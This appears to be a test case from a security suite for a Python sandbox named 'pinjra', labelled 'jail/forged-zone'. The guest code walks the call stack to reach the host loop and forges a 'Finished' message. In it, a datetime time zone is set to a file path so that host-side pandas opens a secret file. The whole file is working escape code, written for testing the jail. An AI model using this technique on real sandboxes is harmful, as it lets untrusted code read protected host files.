# attack: jail/forged-zone
# oracle: runaway
# imports: sys, pinjra
# tools:
# source: own
# note: a time zone by the name of a file makes pandas in the host open and parse it: here one that the guest has written
import os
import sys

from pinjra.wire.messages import Finished

frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "_checkpoint"):
    frame = frame.f_back
loop = frame.f_locals["self"]
times = (0).to_bytes(8, "little")
column = ["t", ["nd", "<M8[ns]", [1], 0], "dateutil/{{SECRET_FILE}}"[:64]]
loop._channel.send(
    Finished(run=loop._channel.run, value=["se", None, column, ["range", 0, 1, 1, None]], blobs=(times,))
)
